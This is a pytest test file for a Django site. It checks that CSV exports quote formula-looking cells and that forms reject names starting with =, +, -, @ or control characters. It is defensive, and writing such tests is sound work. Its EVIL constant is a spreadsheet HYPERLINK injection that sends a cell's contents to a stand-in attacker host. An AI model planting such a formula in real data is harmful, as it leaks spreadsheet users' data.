"""A name that a spreadsheet would run as a formula is neither exported raw nor accepted."""

import csv
import io
import pathlib
import re

import pytest
from django.urls import reverse

from meetings.forms import AgendaItemForm, DocumentForm, MeetingForm
from partnership.forms import AcceptInvitationForm, PersonForm, SignDeclarationForm
from partnership.models import Partner
from swecan import csvsafe
from swecan.demo_accounts import ensure_totp
from tests.partnership.factories import make_partner
from tests.partnership.test_views_kansli import create_form, errors_next_to

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Klicka här")'
REFUSAL = "Får inte börja med =, +, -, @, tabb eller radbrytning (kalkylprogram läser det som en formel)."


def _csv_cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_open_data_csv_writes_formula_looking_cells_as_text(client, start):
    make_partner(name=f"{start}1+1 Föreningen", short_name="@SUM(A1)", city="-Umeå",
                 status=Partner.Status.ACTIVE)

    header, row = _csv_cells(client.get(reverse("public_partner_csv")))
    cells = dict(zip(header, row, strict=True))

    assert cells["namn"] == f"'{start}1+1 Föreningen"
    assert cells["kortnamn"] == "'@SUM(A1)"
    assert cells["ort"] == "'-Umeå"


def test_the_hyperlink_of_the_issue_is_quoted_and_ordinary_names_are_untouched(client):
    make_partner(name=EVIL, status=Partner.Status.ACTIVE)
    make_partner(name="Barn- & ungdomscancer 'Vård'", status=Partner.Status.ACTIVE)

    names = {row[1] for row in _csv_cells(client.get(reverse("public_partner_csv")))[1:]}

    assert names == {"'" + EVIL, "Barn- & ungdomscancer 'Vård'"}


def test_every_csv_export_writes_through_the_one_helper():
    # A new export that used the csv module directly would let formulas through again.
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("swecan", "partnership", "meetings", "nominations")
        for path in (root / app).rglob("*.py")
        if path.name != "csvsafe.py" and re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text())
    ]
    assert offenders == []


# The forms ------------------------------------------------------------------------------


def test_the_kansli_cannot_register_an_organisation_named_like_a_formula(client, karin):
    ensure_totp(karin)
    client.force_login(karin)

    response = client.post(reverse("kansli_partner_create"),
                           create_form(name=EVIL, person_name="@Dagny", person_title="+Chef"))

    assert response.status_code == 200
    assert REFUSAL in errors_next_to(response, "name")
    assert REFUSAL in errors_next_to(response, "person_name")
    assert REFUSAL in errors_next_to(response, "person_title")
    assert not Partner.objects.exists()


@pytest.mark.parametrize(("form", "data", "field"), [
    (PersonForm, {"person_name": "-Per", "email": "per@example.se"}, "person_name"),
    (SignDeclarationForm, {"place": "Umeå", "signed_on": "2026-11-01", "signer_name": "=A1",
                           "signer_title": "Rektor", "confirm": "on"}, "signer_name"),
    (SignDeclarationForm, {"place": "Umeå", "signed_on": "2026-11-01", "signer_name": "Per",
                           "signer_title": "@Rektor", "confirm": "on"}, "signer_title"),
    (AgendaItemForm, {"title": "=1+1", "kind": "decision"}, "title"),
    (AgendaItemForm, {"title": "Budget", "kind": "decision", "presenter": "@Kassören"}, "presenter"),
    (MeetingForm, {"title": "+Extra möte"}, "title"),
])
def test_names_and_titles_may_not_start_like_a_formula(form, data, field):
    bound = form(data=data)

    assert not bound.is_valid()
    assert bound.errors[field] == [REFUSAL]


def test_the_invitee_may_not_give_a_formula_as_their_name():
    form = AcceptInvitationForm(data={"full_name": "+46 Per"}, email="per@example.se", has_account=True)

    assert form.errors["full_name"] == [REFUSAL]


def test_a_document_title_may_not_start_like_a_formula(karin):
    from tests.meetings import factories as mf

    meeting = mf.plan(by=karin, days_ahead=40)
    form = DocumentForm(data={"title": "@Budget"}, files={"file": mf.upload("budget.pdf")}, meeting=meeting)

    assert form.errors["title"] == [REFUSAL]


def test_ordinary_names_with_dashes_and_ampersands_inside_are_accepted():
    form = PersonForm(data={"person_name": "Anna-Karin O'Neil & Co", "email": "anna@example.se",
                            "person_title": "Verksamhetschef"})

    assert form.is_valid(), form.errors
    assert csvsafe.cell("Anna-Karin") == "Anna-Karin"
    assert csvsafe.cell(42) == 42
